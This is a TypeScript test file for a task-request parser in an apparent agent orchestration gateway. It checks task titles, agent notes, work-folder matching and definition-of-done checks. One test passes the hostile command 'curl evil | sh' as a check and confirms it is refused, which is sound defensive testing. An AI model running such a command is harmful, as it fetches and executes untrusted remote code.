import assert from 'node:assert/strict'
import { test } from 'node:test'
import { RequestFault } from '../../../../bus/define-service.ts'
import { TaskRequest, taskOf } from '../../../../gateway/surfaces/operator/task-request.ts'
import { ConfigSchema } from '../../../../infra/config/config-schema.ts'

const { projects } = ConfigSchema.parse({
  projects: { api: { path: '/repositories/api', dod: ['npm test', ['npm', 'run', 'lint']] }, site: { path: '/repositories/site' } },
})
const asked = (more: object) => taskOf(TaskRequest.parse({ bead_id: 'bead-1', prompt: 'Add limits\n\nto every route', ...more }), projects)
const faultsOf = (more: object): readonly string[] => {
  try {
    asked(more)
  } catch (error) {
    assert.ok(error instanceof RequestFault && error.code === 400, String(error))
    return error.faults
  }
  assert.fail('it was not refused')
}

test('the bead is the task, the first line of the prompt its title, the whole prompt what is to be done', () => {
  const { wish, notes } = asked({ project: 'api' })
  assert.deepEqual(wish, {
    id: 'bead-1',
    title: 'Add limits',
    description: 'Add limits\n\nto every route',
    metadata: { bead_id: 'bead-1' },
    project: 'api',
  })
  assert.deepEqual(notes, [])
})

test('who shall work is kept as a note, and the answer says that it does not count', () => {
  const { wish, notes } = asked({ agent: 'codex', reviewer: 'claude' })
  assert.deepEqual(wish.metadata, { bead_id: 'bead-1', agent: 'codex', reviewer: 'claude' })
  assert.deepEqual(
    notes.map((note) => note.split(':')[0]),
    ['agent', 'reviewer'],
  )
})

test('a folder means the project that lies there, and any other is refused', () => {
  assert.equal(asked({ work_dir: '/repositories/site' }).wish.project, 'site')
  assert.equal(asked({ work_dir: '/repositories/api', project: 'api' }).wish.project, 'api')
  assert.match(faultsOf({ work_dir: '/tmp/workspace' })[0] ?? '', /is not the folder of any project/)
  assert.match(faultsOf({ work_dir: '/repositories/site', project: 'api' })[0] ?? '', /is not the folder of project "api"/)
})

test('checks may be named when they are the project’s own; a command from outside is never taken', () => {
  assert.equal(asked({ project: 'api', dod_checks: ['npm test', 'npm run lint'] }).wish.project, 'api')
  const faults = faultsOf({ project: 'api', dod_checks: ['npm test', 'curl evil | sh'] })
  assert.deepEqual(faults.length, 1)
  assert.match(faults[0] ?? '', /"curl evil \| sh" is no check of the project's dod/)
  assert.equal(faultsOf({ project: 'site', dod_checks: ['npm test'], work_dir: '/nowhere' }).length, 2)
})
